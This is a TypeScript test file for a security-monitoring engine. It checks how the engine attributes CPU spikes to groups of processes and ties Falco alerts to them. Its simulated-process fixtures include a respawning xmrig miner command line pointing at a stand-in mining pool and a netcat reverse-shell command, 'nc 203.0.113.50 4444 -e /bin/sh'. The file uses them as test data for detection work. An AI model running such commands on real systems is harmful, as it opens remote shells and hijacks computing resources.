import type { SimProcess } from './__fixtures__/spike-host';
import { falco, hostWith, judgeEpisode, MINUTE, refOf, spike, step, T0 } from './__fixtures__/spike-host';
import { contributorsFor, spikeWindows } from './contributors';
import { resolveEngineOptions } from './options';

const S = T0 + 30 * MINUTE;
const SPIKE_END = S + 10 * MINUTE;
const AFTER = SPIKE_END + 5 * MINUTE;

/** What runs on every host here: a web server and a database, steady. */
function ordinary(): SimProcess[] {
  return [
    {
      pid: 1,
      ppid: 0,
      name: 'systemd',
      exePath: '/usr/lib/systemd/systemd',
      start: T0 - 86_400_000,
      cores: () => 0.002,
    },
    { pid: 120, ppid: 1, name: 'nginx', exePath: '/usr/sbin/nginx', start: T0 - 3_600_000, cores: () => 0.2 },
    {
      pid: 130,
      ppid: 1,
      name: 'postgres',
      exePath: '/usr/lib/postgresql/15/bin/postgres',
      start: T0 - 3_600_000,
      cores: () => 0.3,
    },
  ];
}

/** A watchdog shell that restarts the miner with a new pid every minute; each lives just under a minute. */
function respawningMiner(count = 10): { watchdog: SimProcess; miners: SimProcess[] } {
  const watchdog: SimProcess = {
    pid: 500,
    ppid: 1,
    name: 'bash',
    exePath: '/usr/bin/bash',
    commandLine: 'bash /tmp/.x/watch.sh',
    owner: 'www-data',
    start: T0 - 20 * MINUTE,
    cores: () => 0.001,
  };
  const miners = Array.from({ length: count }, (_, i): SimProcess => {
    const start = S + i * MINUTE + 3_000;
    return {
      pid: 1000 + 37 * i,
      ppid: 500,
      name: 'xmrig',
      exePath: '/tmp/.x/xmrig',
      commandLine: '/tmp/.x/xmrig -o stratum+tcp://pool.example:3333',
      owner: 'www-data',
      start,
      end: start + 55_000,
      cores: () => 3.5,
    };
  });
  return { watchdog, miners };
}

describe('attribution to many instances of one program', () => {
  it('names a miner a watchdog restarts every minute: the culprit is the group, represented by the alerted pid', () => {
    const { watchdog, miners } = respawningMiner();
    const host = hostWith([...ordinary(), watchdog, ...miners], T0, AFTER);
    const alerted = miners[4] as SimProcess;
    const alert = falco(alerted.start + 20_000, 'Detect crypto miners using the Stratum protocol', {
      pid: alerted.pid,
      name: 'xmrig',
      exePath: alerted.exePath,
      commandLine: alerted.commandLine,
    });
    const { incident } = judgeEpisode(host, [spike(S, SPIKE_END)], [alert], AFTER);
    expect(incident?.score).toBeGreaterThanOrEqual(0.5);
    expect(incident?.culprit).toMatchObject({
      'process.pid': alerted.pid,
      'process.executable.name': 'xmrig',
      'process.executable.path': '/tmp/.x/xmrig',
      instances: 10,
    });
    expect(incident?.summary.security).toContain(`xmrig (pid ${alerted.pid}, one of 10 instances)`);
    expect(incident?.summary.security).not.toContain('did not come from');
    expect(incident?.summary.ops).toMatch(/xmrig \(pid \d+, one of 10 instances\) accounts for (9\d|100)% of the rise/);
  });

  it('ties an alert on the watchdog shell to the miners it keeps restarting (lineage)', () => {
    const { watchdog, miners } = respawningMiner();
    const host = hostWith([...ordinary(), watchdog, ...miners], T0, AFTER);
    const alert = falco(S + 90_000, 'Run shell untrusted', refOf(watchdog), 'low');
    const { incident } = judgeEpisode(host, [spike(S, SPIKE_END)], [alert], AFTER);
    expect(incident?.culprit?.['process.executable.name']).toBe('xmrig');
    expect(incident?.culprit?.instances).toBe(10);
    expect(incident?.score).toBeGreaterThanOrEqual(0.5);
    expect(incident?.summary.security).toContain('through its process lineage');
  });

  it('names a worker pool by the worker the evidence is about, counting the master and every worker', () => {
    const master: SimProcess = {
      pid: 200,
      ppid: 1,
      name: 'php-fpm8.2',
      exePath: '/usr/sbin/php-fpm8.2',
      commandLine: 'php-fpm: master process (/etc/php/8.2/fpm/php-fpm.conf)',
      owner: 'root',
      start: T0 - 3_600_000,
      cores: () => 0.003,
    };
    const workers = Array.from({ length: 8 }, (_, i): SimProcess => ({
      pid: 201 + i,
      ppid: 200,
      name: 'php-fpm8.2',
      exePath: '/usr/sbin/php-fpm8.2',
      commandLine: 'php-fpm: pool www',
      owner: 'www-data',
      start: T0 - 3_000_000,
      cores: step(0.05, 0.42, S, SPIKE_END),
    }));
    const host = hostWith([...ordinary(), master, ...workers], T0, AFTER);
    const worker = workers[5] as SimProcess;
    const alert = falco(
      S + 60_000,
      'Outbound Connection to C2 Servers',
      { pid: worker.pid, name: 'php-fpm8.2' },
      'medium',
    );
    const { incident } = judgeEpisode(host, [spike(S, SPIKE_END)], [alert], AFTER);
    expect(incident?.score).toBeGreaterThanOrEqual(0.5);
    expect(incident?.culprit).toMatchObject({ 'process.pid': worker.pid, instances: 9 });
    // Alone, no worker accounts for a quarter of the rise: without the group there would be no culprit.
    const options = resolveEngineOptions();
    const { during, before } = spikeWindows(S, SPIKE_END, host, options);
    const [pool] = contributorsFor(host, during, before);
    expect(pool?.members).toHaveLength(9);
    expect(pool?.share).toBeGreaterThan(0.9);
    const oneWorker = worker.cores(S) - worker.cores(T0);
    expect(oneWorker / (pool?.riseCores ?? 1)).toBeLessThan(0.25);
  });

  it('keeps pid reuse safe: an alert on an earlier, different process with a pid a miner instance reuses implicates nothing', () => {
    const { watchdog, miners } = respawningMiner();
    const reused = (miners[3] as SimProcess).pid;
    const nc: SimProcess = {
      pid: reused,
      ppid: 500,
      name: 'nc',
      exePath: '/usr/bin/nc.openbsd',
      commandLine: 'nc 203.0.113.50 4444 -e /bin/sh',
      owner: 'www-data',
      start: S - 6 * MINUTE + 1_000,
      end: S - 6 * MINUTE + 4_000,
      cores: () => 0.01,
    };
    // Lives between two scrapes: only the alert knows it.
    const host = hostWith([...ordinary(), watchdog, ...miners], T0, AFTER);
    const alert = falco(nc.start + 300, 'Netcat Remote Code Execution in Container', {
      pid: nc.pid,
      ppid: nc.ppid,
      name: nc.name,
      exePath: nc.exePath,
      commandLine: nc.commandLine,
    });
    const { incident } = judgeEpisode(host, [spike(S, SPIKE_END)], [alert], AFTER);
    expect(incident?.culprit).toBeNull();
    expect(incident?.score).toBeLessThan(0.5);
    expect(incident?.signals[0]?.match).toBe('host');
  });

  it('does not take an earlier process of the same program for a sibling when nothing says where either came from', () => {
    const python = (pid: number, start: number, cores: (t: number) => number, end?: number): SimProcess => ({
      pid,
      ppid: 0,
      name: 'python3',
      exePath: '/usr/bin/python3.11',
      commandLine: 'python3 /opt/jobs/fetch.py',
      start,
      cores,
      ...(end === undefined ? {} : { end }),
    });
    const host = hostWith([...ordinary(), python(4242, S - 2_000, step(0, 2.5, S, SPIKE_END), SPIKE_END)], T0, AFTER);
    // Minutes earlier the same pid ran the same script: the alert is about that lifetime, which had no parent pid.
    const alert = falco(S - 8 * MINUTE, 'Unexpected outbound connection', {
      pid: 4242,
      name: 'python3',
      commandLine: 'python3 /opt/jobs/fetch.py',
    });
    const { incident } = judgeEpisode(host, [spike(S, SPIKE_END)], [alert], AFTER);
    expect(incident?.culprit ?? null).toBeNull();
    expect(incident?.score ?? 0).toBeLessThan(0.5);
  });

  it('counts the short-lived compilers of make -j as one contributor, and an unrelated sudo alert explains nothing', () => {
    const make: SimProcess = {
      pid: 300,
      ppid: 1,
      name: 'make',
      exePath: '/usr/bin/make',
      commandLine: 'make -j4 all',
      owner: 'build',
      start: S - 5_000,
      end: SPIKE_END,
      cores: () => 0.02,
    };
    // Four compilers at a time, each 7 s long: most are scraped once, some never.
    const compilers: SimProcess[] = [];
    for (let t = S, i = 0; t < SPIKE_END - 7_000; t += 1_750, i += 1) {
      compilers.push({
        pid: 2000 + i,
        ppid: 300,
        name: 'cc1',
        exePath: '/usr/lib/gcc/x86_64-linux-gnu/12/cc1',
        commandLine: `/usr/lib/gcc/x86_64-linux-gnu/12/cc1 -quiet src/file${i}.c -O2`,
        owner: 'build',
        start: t,
        end: t + 7_000,
        cores: () => 0.95,
      });
    }
    const sudo: SimProcess = {
      pid: 9000,
      ppid: 1,
      name: 'sudo',
      exePath: '/usr/bin/sudo',
      commandLine: 'sudo systemctl restart nginx',
      owner: 'root',
      start: S + 3 * MINUTE,
      end: S + 3 * MINUTE + 2_000,
      cores: () => 0.01,
    };
    const host = hostWith([...ordinary(), make, ...compilers], T0, AFTER);
    const { during, before } = spikeWindows(S, SPIKE_END, host, resolveEngineOptions());
    const [top] = contributorsFor(host, during, before);
    expect(top?.instance.name).toBe('cc1');
    expect(top?.instances).toBeGreaterThan(20);
    expect(top?.share).toBeGreaterThan(0.8);
    // A compiler counts only from its start: the group cannot claim more than the four cores it used.
    expect(top?.riseCores).toBeLessThanOrEqual(4 * 0.95);
    const alert = falco(sudo.start + 200, 'Sudo Potential Privilege Escalation', refOf(sudo));
    const { incident } = judgeEpisode(host, [spike(S, SPIKE_END)], [alert], AFTER);
    expect(incident?.culprit).toBeNull();
    expect(incident?.score).toBeLessThan(0.5);
    expect(incident?.summary.ops).toMatch(
      /the top contributor is cc1 \(pid \d+, one of \d+ instances, \d+% of the rise\)/,
    );
  });

  it('reports a group in the anomaly contributors with its instance count', () => {
    const { watchdog, miners } = respawningMiner(6);
    const host = hostWith([...ordinary(), watchdog, ...miners], T0, AFTER);
    const { during, before } = spikeWindows(S, S + 6 * MINUTE, host, resolveEngineOptions());
    const anomaly = spike(S, S + 6 * MINUTE);
    anomaly.contributors = contributorsFor(host, during, before);
    const [first] = anomaly.toWire().contributors;
    expect(first?.instances).toBe(6);
    expect(first?.process['process.executable.name']).toBe('xmrig');
    expect(first?.share).toBeGreaterThan(0.9);
  });
});
